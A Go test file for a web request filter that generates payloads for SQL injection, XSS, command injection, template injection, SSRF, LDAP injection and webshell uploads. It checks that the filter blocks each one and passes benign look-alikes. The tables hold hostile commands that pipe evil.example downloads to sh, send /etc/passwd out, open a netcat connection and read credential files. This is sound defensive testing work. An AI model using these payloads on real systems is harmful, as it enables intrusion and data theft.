package filter

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// Attack and look-alike tables generated from the grammar of each class
// (the ways a language lets one say the same thing), not copied from a
// corpus: every positive is the cross product of a few interchangeable
// parts, and every negative is a benign value that shares the attack's
// words or symbols. Each is sent in the places a real client puts values
// (query, form, JSON), at default settings.

// cross joins every a with every b through sep.
func cross(sep string, parts ...[]string) []string {
	out := []string{""}
	for i, p := range parts {
		var next []string
		for _, o := range out {
			for _, x := range p {
				if i == 0 {
					next = append(next, x)
				} else {
					next = append(next, o+sep+x)
				}
			}
		}
		out = next
	}
	return out
}

// grammarAttacks are positives by class; placement names the parameter.
func grammarAttacks() map[string][]string {
	m := map[string][]string{}
	// Scalar subqueries where a field list or an expression goes on.
	m["sqli"] = append(m["sqli"], cross("", []string{"id,total,", "1+", "price=", "1 and id in ", "x|"},
		[]string{"(SELECT password_hash FROM users WHERE id=1)", "(select max(price) from items)", "( select 1,2 from dual)", "(SELECT name FROM sqlite_master)"})...)
	// XSS as JavaScript without markup.
	for _, obj := range []string{"window", "self", "top", "parent", "this", "globalThis", "frames"} {
		for _, name := range []string{`'al'+'ert'`, `"\x61lert"`, `/al/.source+/ert/.source`, "`ale`+`rt`", `atob('YWxlcnQ=')`} {
			m["xss"] = append(m["xss"], obj+"["+name+"](document.domain)", obj+"["+name+"]`1`")
		}
	}
	for _, f := range []string{"alert", "prompt", "confirm", "eval", "setTimeout", "fetch"} {
		m["xss"] = append(m["xss"], f+"`1`", "'-"+f+"(1)-'", `";`+f+`(1)//`, `\';`+f+`(document.cookie)//`)
	}
	m["xss"] = append(m["xss"],
		"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
		"(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+[][[]]",
	)
	for _, tag := range []string{"object data", "embed src", "iframe src", "frame src"} {
		el, attr, _ := strings.Cut(tag, " ")
		for _, u := range []string{"//evil.example/x.html", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="} {
			if el == "object" || el == "embed" || !strings.HasPrefix(u, "http") {
				m["xss"] = append(m["xss"], fmt.Sprintf("<%s %s=%s>", el, attr, u), fmt.Sprintf(`<%s %s="%s"></%s>`, el, attr, u, el))
			}
		}
	}
	m["xss"] = append(m["xss"],
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel="import" href="//evil.example/x">`,
		`<style>@import '//evil.example/x.css';</style>`, `<style>body{background:url(javascript:alert(1))}</style>`,
		`<div style="width: expression(alert(1))">`, "<\x00script>alert(1)</script>", "<\x0bimg src=x onerror=alert(1)>",
		`<img src=x o<b>nerror=alert(1)>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`)

	// SQL fragments without quotes, and statements.
	m["sqli"] = append(m["sqli"], cross(" ", []string{"1", "1)", "-1"}, []string{"AND", "OR", "&&", "||"}, []string{"1=1", "2>1", "1=1--", "1=1#", "1 LIKE 1", "5 BETWEEN 1 AND 9"})...)
	m["sqli"] = append(m["sqli"], cross(" ", []string{"1", "1'", "name"}, []string{"ORDER BY", "GROUP BY"}, []string{"1--", "3#", "10 /*", "1,2,3--"})...)
	for _, stmt := range []string{"SELECT @@version", "select version()", "SELECT user()", "select banner from v$version", "SELECT * FROM information_schema.tables", "select name from sysibm.systables", "SELECT table_name FROM all_tables", "select * from pg_catalog.pg_tables", "select sql from sqlite_master", "SELECT name FROM sys.databases", "SELECT 1 FROM dual", "DECLARE @q varchar(99) SET @q='x' EXEC(@q)", "1 AND SLEEP(5)", "1 or pg_sleep(5)", "1;WAITFOR DELAY '0:0:5'--", "admin' #", "admin'--", "1 HAVING 1=1", "1 AND 1=(SELECT 1)", "IF((SELECT 1)=1,SLEEP(3),0)"} {
		m["sqli"] = append(m["sqli"], stmt, strings.ReplaceAll(stmt, " ", "/**/"))
	}

	// Command lines: prefix × command × argument, and shell grammar.
	m["rce"] = append(m["rce"], cross(" ", []string{"", "time", "nohup", "sudo", "env", "strace"}, []string{"/bin/cat /etc/hosts", "/usr/bin/id", "sh -c id", "bash -c 'id'", "python3 -c 'import os'", "perl -e 'print 1'", "curl http://evil.example/x.sh", "wget http://evil.example/x", "nc evil.example 4444", "cat /etc/shadow"})...)
	for _, sep := range []string{";", "|", "||", "&&", "\n", "`", "$("} {
		for _, c := range []string{"id", "whoami", "uname -a", "ls -la", "cat /etc/passwd", "ping -c 3 127.0.0.1"} {
			p := sep + c
			switch sep {
			case "`":
				p += "`"
			case "$(":
				p += ")"
			}
			m["rce"] = append(m["rce"], "127.0.0.1"+p, "report.pdf"+p)
		}
	}
	// Argument injection: options of the program the value is given to.
	m["rce"] = append(m["rce"], "--upload-pack=touch /tmp/pwned", "ext::sh -c touch% /tmp/pwned", "-o /var/www/html/s.php http://203.0.113.50/shell.txt",
		"--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh", "-exec sh -c id ;", "--post-file=/etc/passwd http://evil.example/", "-oProxyCommand=curl evil.example|sh",
		`"attacker\" -oQueueDirectory=/tmp -X/var/www/html/x.php some"@example.com`)
	m["rce"] = append(m["rce"], `$'\x69\x64'`, `$'\151\144'`, `;$'\x63\x61\x74' /etc/passwd`, `$'\u0069\u0064'`)
	m["rce"] = append(m["rce"], "curl -s evil.example/x | sh", "echo aWQ= | base64 -d | bash", "printf dwssap/cte | rev | sh", "FOR /L %variable IN (1,1,5) DO echo x", "IF 2 GEQ 15 echo big", "\nid", ";id", "|whoami", "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
		"'wh'oami", `w\hoami`, `"w"get evil.example`, "alias x=id;x", "FOR /F %G IN ('dir /b') DO echo %G", "for %i in (*) do type %i",
		"IF EXIST C:\\boot.ini ECHO found", "if %ERRORLEVEL% NEQ 0 echo x", "cmd /c whoami", "powershell -enc SQBFAFgA", "Invoke-WebRequest http://evil.example/x.ps1")

	// Template expressions of the common engines.
	m["ssti"] = []string{"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "${{7*7}}", "{{config}}", "{{self}}", "{{ self.__init__ }}", "{$smarty.version}", "{php}echo 1;{/php}", "#{1+1}", "${1+1}", "*{7*7}", "[[${7*7}]]",
		"{{request.application.__globals__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", `<#assign ex="freemarker.template.utility.Execute"?new()>`, "#set($x=1)", "{{constructor.constructor('return 1')()}}",
		"{{''.__class__.__mro__}}", "@(1+2)", "{{= 7*7}}", "{% debug %}", "{{dump(app)}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "<%= system('id') %>", "${product.getClass()}", "#{session.getAttribute('x')}"}

	// PHP code by its syntax: open tags with a statement, variable
	// variables, calls split by comments or suppressed with @.
	for _, f := range []string{"exec", "system", "passthru", "eval", "base64_decode", "phpinfo"} {
		m["php"] = append(m["php"], "<? "+f+"('id'); ?>", "<?php\t"+f+"($x);", f+"/**/('id')", f+"/*x*/ /*y*/(1)", f+"#c\n('id')", f+"//c\n('id')", f+"\r($x)")
	}
	m["php"] = append(m["php"], "@{[system 'id']}", "$f['x'](1)", "$__('id')", "(system)('id')", "(string){[system][0]}('id')", "_$$ND_FUNC$$_function(){}()", "this.constructor.constructor('return 1')()", "@exec('id')", "@system('ls')", "${'a'.'b'}", "$ {'_VAR'}", "[php]echo 1;[/php]", "{php}echo 1;{/php}", "<?=$_GET[0]?>")
	// Java process, script-engine and gadget classes, and Fastjson @type.
	m["java"] = []string{"java.lang.Runtime", "java.lang.ProcessBuilder", "javax.script.ScriptEngineManager", "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.rowset.JdbcRowSetImpl",
		"org.codehaus.groovy.runtime.MethodClosure", "ognl.OgnlContext", "#_memberAccess[\"allowStaticMethodAccess\"]=true", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}`, "java.beans.XMLDecoder"}

	// NoSQL operators in JSON strings and bracket notation values.
	m["nosqli"] = []string{`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": ".*"}`, `{"$where": "sleep(100)"}`, `'; return true; var x='`, `{"$or": [{}, {"a": "a"}]}`, `{"$expr": {"$eq": [1, 1]}}`}

	// Open redirects in redirect-like parameters (sent as "next").
	m["redirect"] = []string{"/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "///evil.example", "//%2fevil.example", "/%09/evil.example", " //evil.example", "\t//evil.example", "https://trusted.example@evil.example", "javascript:alert(1)", "http:\\\\evil.example", "https://evil.example%2f@trusted.example", "https://evil.example%5c@trusted.example"}

	// SSRF in fetch-like parameters (sent as "url").
	m["rfi"] = []string{"http://203.0.113.5/shell.txt", "http://198.51.100.7:8080/x.php", "ftp://203.0.113.9/inc/c99.php?", "http://[2001:db8::1]/r57.txt"}
	m["ssrf"] = []string{"http://127.0.0.1/", "http://localhost:8080/admin", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "http://0.0.0.0:22/", "http://10.0.0.5/internal", "http://192.168.1.1/", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "http://evil.example@127.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://localtest.me/", "localhost/admin", "127.0.0.1:6379/", "http://kubernetes.default.svc/api", "metadata.google.internal/computeMetadata/v1/", "http://host.docker.internal:2375/containers/json"}
	return m
}

// grammarPaths are requests for sensitive files and admin surfaces, in the
// spellings that reach them past a naive prefix match.
func grammarPaths() []string {
	var out []string
	for _, f := range []string{".git/config", ".git/HEAD", ".svn/entries", ".svn/wc.db", ".hg/hgrc", ".env", ".env.production", ".aws/credentials", ".ssh/id_rsa", ".htpasswd", "WEB-INF/web.xml", "META-INF/MANIFEST.MF", "backup.zip", "db.sql", "dump.sql.gz", "site.tar.gz", "wp-config.php.bak", "index.php~", "config.php.swp", "server-status", "actuator/env", "actuator/heapdump", "phpinfo.php", ".DS_Store", "terraform.tfstate", "jmx-console/", "manager/html", "config/database.yml", "appsettings.json", "app/settings.py", "docker-compose.yml", "_vti_pvt/service.pwd"} {
		out = append(out, "/"+f, "/app/"+f, "/static/..;/"+f, "/%2e/"+f, "/./"+f, "/"+strings.ToUpper(f[:1])+f[1:])
	}
	for _, d := range []string{".vscode", ".idea", ".config/gcloud", ".someagent", ".tool"} {
		out = append(out, "/"+d+"/settings.json", "/app/"+d+"/credentials.db", "/"+d+"/secrets.env")
	}
	return out
}

// grammarBenign are look-alikes: search queries about SQL and HTML, code
// snippets, rich text, template placeholders, URLs in telemetry, prose.
var grammarBenign = []string{
	"select the best union for your team", "how to use ORDER BY in sql", "difference between union and union all", "select * from users where id = ? (prepared statement)",
	"what does 1=1 mean in sql injection", "and then there were none", "or maybe not", "I'd like to order by phone", "Rock & Roll || Jazz", "Terms & Conditions apply",
	"<script", "<scr", "<b>bold</b> and <i>italic</i>", `<p>See <a href="https://example.com/docs">the docs</a>.</p>`, `<a href="javascript:void(0)" class="btn">Open</a>`,
	`<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>`,
	"const el = document.querySelector('#app'); el.classList.add('ready');", "$(document).ready(function () { init(); });", "arr[0] = items[i] + 1;", "x = [1, 2, 3].map(n => n * 2)",
	"Hello {{first_name}}, your order {{order.id}} ships soon", "Dear ${customer.name}", "{{#if user}}Hi {{user.name}}{{/if}}", "{{#each items}}<li>{{this}}</li>{{/each}}", "{% for item in cart %}{{ item.name }}{% endfor %}",
	"It's the user's choice, isn't it? We'll see what they're doing.", "O'Brien's café doesn't open 'til nine",
	"run `npm install` then `npm test`", "Use the --force flag with care", "time flies like an arrow", "env: production", "cat: Maine Coon, age 3", "id: 12345",
	"ping me when you're back", "sudo make me a sandwich", "Files like /usr/bin/python3.* are managed by the package manager.",
	"https://www.google.com/search?q=union+select+tutorial", "/dashboard?tab=settings",
	`<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>a@example.com</EMailAddress></Request></Autodiscover>`,
	"{{.}}", `{{printf "%s" .Name}}`, "{{range .Items}}{{.Title}}{{end}}", "{{ app.user.username }}", "{{ request.path }}",
	"javascript:void(0) link does nothing", "Uncaught ReferenceError: Bridge is not defined at <anonymous>:1:1 (javascript:void(0))",
	`<p>We moved!</p><p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="" width="1" height="1"></p>`,
	"Fix <script> example in widget docs; escape ' in O'Brien sample",
	"-kXyz3LpQ0dVbA9fZrT", "-oops", "--force-with-lease", "-price", "-5", "--", "-e is the flag for an expression", "my-ext::thing",
	"Seán O'Brien", "Müller & Söhne GmbH", "l'été sélectionné", "5' 11\"", "Status eq 'open' or Status eq 'closed'", "ﾃｽﾄ ｶﾀｶﾅ", "Ｔｏｋｙｏ　Ｓｔａｔｉｏｎ",
	`"knee pain" AND (physio OR physiotherapy) NOT surgery`, `title:report* AND author:smith OR "annual review"`,
	`printf $'a\tb'`, `name: $'\n' is a newline in bash`, "It costs $'5' or so",
	"Pick a size (select one from the list)", "red,(select one from the menu)", "Colours (select any from below)", "a,(select all that apply)",
	"price: $7 * 7 items", "{count, plural, one {# item} other {# items}}", "FOR SALE: bike, if interested call", "if not defined, the default is used",
}

// grammarBenignPaths are ordinary paths that share words with the
// sensitive list.
var grammarBenignPaths = []string{"/api/v1/users/42", "/static/app.3f2a9c.js", "/.well-known/openid-configuration", "/downloads/release-1.2.zip", "/docs/environment-variables", "/blog/git-tips-and-tricks", "/images/logo.svg", "/api/backup-policies/7", "/sql-tutorial/select", "/files/report-2024.pdf", "/assets/env.js", "/github/webhook", "/api/admin/users", "/status", "/health"}

// sendIn builds the request that carries v in the given place.
func sendIn(place, name, v string) *http.Request {
	switch place {
	case "query":
		return newReq("GET", "http://app.example.com/search?"+url.Values{name: {v}}.Encode(), "", "")
	case "form":
		return newReq("POST", "http://app.example.com/submit", "application/x-www-form-urlencoded", url.Values{name: {v}}.Encode())
	default:
		b, _ := json.Marshal(map[string]string{name: v})
		return newReq("POST", "http://app.example.com/api", "application/json", string(b))
	}
}

func TestGrammarAttacks(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	param := map[string]string{"redirect": "next", "ssrf": "url", "rfi": "src"}
	for class, payloads := range grammarAttacks() {
		name := param[class]
		if name == "" {
			name = "q"
		}
		missed, total := 0, 0
		for _, p := range payloads {
			for _, place := range []string{"query", "form", "json"} {
				total++
				d, err := eng.Inspect(sendIn(place, name, p))
				if err != nil {
					t.Fatal(err)
				}
				if !d.Blocked {
					missed++
					t.Errorf("%s in %s passed: %q (score %d %v)", class, place, p, d.Score, d.Matches)
				}
			}
		}
		t.Logf("%-8s %d/%d blocked", class, total-missed, total)
	}
	for _, p := range grammarPaths() {
		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+p, "", ""))
		if err != nil {
			t.Fatal(err)
		}
		if !d.Blocked {
			t.Errorf("sensitive path passed: %q (score %d %v)", p, d.Score, d.Matches)
		}
	}
}

func TestGrammarBenign(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range grammarBenign {
		for _, name := range []string{"q", "text", "next", "url"} {
			if name == "next" && strings.HasPrefix(v, "https://") {
				continue // a navigation target of another site: TestRedirectHosts
			}
			if (name == "next" || name == "url") && strings.HasPrefix(v, "javascript:") {
				continue // a script URL is no redirect target, inert or not
			}
			for _, place := range []string{"query", "form", "json"} {
				d, err := eng.Inspect(sendIn(place, name, v))
				if err != nil {
					t.Fatal(err)
				}
				if d.Blocked {
					t.Errorf("benign %s=%q in %s blocked: %v", name, v, place, d.Matches)
				}
			}
		}
	}
	for _, p := range grammarBenignPaths {
		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+p, "", ""))
		if err != nil {
			t.Fatal(err)
		}
		if d.Score > 0 {
			t.Errorf("benign path %q scored %d: %v", p, d.Score, d.Matches)
		}
	}
}

// TestContextBenignRequests: requests whose values look like attacks out of
// context (telemetry JSON with escaped line breaks, long beacons, URL-valued
// telemetry fields, prose posted without a Content-Type), at the default
// level and at paranoia 2.
func TestContextBenignRequests(t *testing.T) {
	telemetry := `{"event":"error","stack":"TypeError: x is undefined\r\n    at render (app.js:10:5)\r\n    at main (app.js:2:1)","request":"GET /api/items HTTP/1.1\r\nHost: api.example.com\r\nContent-Type: application/json\r\nAccept: */*\r\n\r\n","page":"https://shop.example.com/cart?step=2","referrer":"https://www.bing.com/search?q=union+select+shoes"}`
	beacon := "/collect?v=2&tid=G-XXXX&en=page_view&dl=" + url.QueryEscape("https://www.example.com/some/page?utm_source=news") + "&ep.payload=" + strings.Repeat("abcdefgh", 1200)
	cases := []struct {
		name string
		r    func() *http.Request
	}{
		{"telemetry JSON with CRLF in strings", func() *http.Request { return newReq("POST", "/v1/events", "application/json", telemetry) }},
		{"telemetry JSON sent as text/plain", func() *http.Request { return newReq("POST", "/v1/events", "text/plain;charset=UTF-8", telemetry) }},
		{"beacon URI over 8 KiB", func() *http.Request { return newReq("GET", beacon, "", "") }},
		{"prose posted without a Content-Type", func() *http.Request {
			return newReq("POST", "/feedback", "", "msg=One quarter (24%) of people said it's the best they've had; the rest weren't sure.")
		}},
		{"javascript:void(0) links in CMS JSON", func() *http.Request {
			return newReq("POST", "/api/pages", "application/json", `{"html":"<a href=\"javascript:void(0)\" onclick=\"\">Menu</a><a href=\"javascript:;\">Top</a>"}`)
		}},
		{"search-as-you-type", func() *http.Request { return newReq("GET", "/suggest?q=%3Cscript", "", "") }},
		{"a code editor saving a React component", func() *http.Request {
			b, _ := json.Marshal(map[string]string{"source": "import React from 'react';\nexport default function App() {\n  const [open, setOpen] = useState(false);\n  return <div className=\"app\" onClick={() => setOpen(!open)}><img src={logo} onError={onErr} /></div>;\n}\n"})
			return newReq("POST", "/api/files", "application/json", string(b))
		}},
		{"a site builder saving a whole page", func() *http.Request {
			b, _ := json.Marshal(map[string]string{"html": "<!DOCTYPE html>\n<html>\n<head><script src=\"https://cdn.example.com/app.js\"></script></head>\n<body onload=\"init()\">\n<div id=\"root\"></div>\n</body>\n</html>\n"})
			return newReq("POST", "/api/pages", "application/json", string(b))
		}},
		{"session id in a same-site link", func() *http.Request {
			return newReq("GET", "http://shop.example.com/cart?jsessionid=abc", "", "", "Referer", "https://www.example.com/")
		}},
		{"XML document sent as a JSON value", func() *http.Request {
			return newReq("POST", "/api/wfs", "application/json", `{"request":"<wfs:GetFeature service=\"WFS\" version=\"2.0.0\" xmlns:wfs=\"http://www.opengis.net/wfs/2.0\" xmlns:fes=\"http://www.opengis.net/fes/2.0\"><wfs:Query typeNames=\"roads\"/></wfs:GetFeature>"}`)
		}},
		{"a stream of JSON objects sent as text/plain (NDJSON telemetry)", func() *http.Request {
			return newReq("POST", "/stream", "text/plain", strings.Repeat(`{"k":"v"}`, 50))
		}},
		{"GraphQL client query with aliases and __typename", func() *http.Request {
			return newReq("POST", "/graphql", "application/json", `{"query":"query Cart($id: ID!) { cart(id: $id) { __typename id lines: items(first: 20) { edges { node { id qty: quantity product { title price { amount currency } } } } } } }","variables":{"id":"c1"}}`)
		}},
	}
	// Weak signals by design, which paranoia 2 blocks.
	pl1Only := map[string]bool{"a code editor saving a React component": true, "a site builder saving a whole page": true}
	for _, level := range []int{1, 2} {
		eng, err := New(Config{Paranoia: level})
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range cases {
			if pl1Only[c.name] && level > 1 {
				continue
			}
			d, err := eng.Inspect(c.r())
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked {
				t.Errorf("paranoia %d: %s blocked: %v", level, c.name, d.Matches)
			}
		}
	}
}

// TestContextAttacks: the same places with the attack in them still block.
func TestContextAttacks(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	var gql strings.Builder
	gql.WriteString(`{"query":"{`)
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&gql, "a%d: login(user: \\\"admin\\\", pass: \\\"p%d\\\") { token } ", i, i)
	}
	gql.WriteString(`}"}`)
	batch := "[" + strings.TrimSuffix(strings.Repeat(`{"query":"query { me { id } }"},`, 12), ",") + "]"
	cases := []struct {
		name string
		r    *http.Request
	}{
		{"CRLF header injection in a short JSON value", newReq("POST", "/api", "application/json", `{"lang":"en\r\nSet-Cookie: session=attacker"}`)},
		{"GraphQL introspection", newReq("POST", "/graphql", "application/json", `{"query":"query IntrospectionQuery { __schema { types { name fields { name } } } }"}`)},
		{"GraphQL alias brute force", newReq("POST", "/graphql", "application/json", gql.String())},
		{"GraphQL batch of 12 operations", newReq("POST", "/graphql", "application/json", batch)},
		{"double-encoded redirect", newReq("GET", "/login?next=%252F%252Fevil.example", "", "")},
		{"webshell upload", multipartUpload("avatar", "shell.php.jpg", "GIF89a<?php system($_GET['c']); ?>")},
		{"script upload", multipartUpload("doc", "report.phtml", "hello")},
		{"script name in an upload header", newReq("PUT", "/upload", "application/octet-stream", "x", "X-File-Name", "photo. php")},
		{"file URI with a glob", newReq("GET", "/fetch?src="+url.QueryEscape("file:///etc/*"), "", "")},
		{"session id set by a link from another site", newReq("GET", "/login?PHPSESSID=attacker123", "", "", "Referer", "https://evil.example/page")},
		{"overlong UTF-8 traversal", newReq("GET", "/static/%f0%80%80%ae%f0%80%80%ae/%f0%80%80%ae%f0%80%80%ae/etc/passwd", "", "")},
	}
	for _, c := range cases {
		d, err := eng.Inspect(c.r)
		if err != nil {
			t.Fatal(err)
		}
		if !d.Blocked {
			t.Errorf("%s passed: %v", c.name, d.Matches)
		}
	}
}

// multipartUpload builds a one-file multipart/form-data request.
func multipartUpload(field, filename, content string) *http.Request {
	const boundary = "----gatehouse-test-boundary"
	body := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + field + "\"; filename=\"" + filename + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content + "\r\n--" + boundary + "--\r\n"
	return newReq("POST", "/upload", "multipart/form-data; boundary="+boundary, body)
}

// TestLDAPWholeFilter: a value that is one complete, well-formed RFC 4515
// filter (what directory search UIs and AD tools send) passes; breakouts,
// chained filters, presence enumeration and items no directory accepts stay
// flagged.
func TestLDAPWholeFilter(t *testing.T) {
	var cases []langCase
	for _, b := range []string{
		"(&(objectCategory=computer)  (userAccountControl:1.2.840.113556.1.4.803:=8192))",
		"(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))",
		"(|(cn=jo*)(mail=jo*@example.com))",
		"(&(sn;lang-en=Smith)(givenName>=A))",
		"(cn:dn:2.5.13.5:=John)",
		"(&(memberOf=cn=admins,ou=groups,dc=example,dc=com)(uid=jdoe))",
	} {
		cases = append(cases, langCase{KindBodyValue, "foo", b, ""}, langCase{KindQueryValue, "filter", b, ""}, langCase{KindBodyRaw, "", "foo=" + b, ""})
	}
	for _, p := range []string{
		"(&(uid=admin)(!(&(1=0)(userPassword=q))))",                                     // "1" is no attribute
		"(userAccountControl:1.2.840.113556.1.4.803:=2)(&(objectCategory=group)(cn=x))", // two filters side by side
		"(&(objectClass=*))",                // presence enumeration
		"(|(uid=admin)(uid=*))",             // presence enumeration
		"admin)(&(objectClass=person)(cn=*", // breakout
		"*(|(objectclass=*))",               // wildcard breakout
		"(&(uid=x)(|(cn=y)",                 // unbalanced
		"userPassword:2.5.13.18:=123",       // bare extensible match
		"(&(uid=x)(cn=(y)))",                // '(' in a value
	} {
		cases = append(cases, langCase{KindQueryValue, "user", p, "ldap-filter-injection"}, langCase{KindBodyRaw, "", "user=" + p, "ldap-filter-injection"})
	}
	checkGrammarCases(t, cases)
}

// TestLDAPTermBreakout: a closed term followed directly by a new term with
// an attribute and a filter operator, with no wildcard; look-alikes from
// arithmetic, curried calls and arrow functions pass.
func TestLDAPTermBreakout(t *testing.T) {
	var cases []langCase
	for _, p := range []string{"john)(sn~=smith", "value)(gidNumber<=100", "val)&(cn=admin", "x)|(uid=jdoe", "abc)!(sn=a", "aaa*aaa)(cn>=bob)", "x)(mail;binary=y"} {
		cases = append(cases, langCase{KindQueryValue, "name", p, "ldap-filter-injection"}, langCase{KindBodyValue, "user", p, "ldap-filter-injection"})
	}
	for _, b := range []string{"(a+b)*c", "(1+2)+(3+4)", "compose(f)(x=>x+1)", "f(a)(b==c)", "see (a) (b=c)", "Hello!World", "a=(1)&b=(2)", "f(x) (y=2)", "(sn=smith)"} {
		cases = append(cases, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
	}
	checkGrammarCases(t, cases)
}

// TestXMLStylesheetPI: a same-origin xml-stylesheet processing instruction
// is markup that runs nothing from elsewhere; one naming another host or a
// scheme, or followed by script, stays an attack.
func TestXMLStylesheetPI(t *testing.T) {
	var cases []langCase
	for _, b := range []string{`<?xml-stylesheet type="text/xsl" href="style.xsl"?>`, `<?xml-stylesheet href="/static/feed.css" type="text/css"?>`, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="rss.xsl"?><rss/>`} {
		cases = append(cases, langCase{KindQueryValue, "data", b, ""}, langCase{KindBodyValue, "doc", b, ""})
	}
	for _, p := range []string{`<?xml-stylesheet type="text/xsl" href="//203.0.113.9/x.xsl"?>`, `<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x.xsl"?>`, `<?xml-stylesheet type="text/xsl" href="style.xsl"?><script>alert(1)</script>`, `<?xml-stylesheet type="text/xsl" href="style.xsl"?><img src=x onerror=alert(1)>`} {
		cases = append(cases, langCase{KindQueryValue, "data", p, "xss-libinjection"})
	}
	checkGrammarCases(t, cases)
}

// TestShellUnsetVariable: an unset variable glued into a command word or
// set before it ($u, $xx) expands to nothing in a shell; prose and
// templates with $names stay benign.
func TestShellUnsetVariable(t *testing.T) {
	var cases []langCase
	for _, p := range []string{"a; sh$xx -c whoami", "|$u wget http://203.0.113.9/x", ";c$u'a't /etc/passwd", "x && uname$u -a"} {
		cases = append(cases, langCase{KindQueryValue, "cmd", p, "rce"})
	}
	for _, b := range []string{"Hello $name, your total is $total", "price: $price | qty: $qty", "SELECT $field FROM t", "echo $HOME", "Use $PATH and $GOPATH", "costs $5 | see $note for details"} {
		cases = append(cases, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
	}
	checkGrammarCases(t, cases)
}
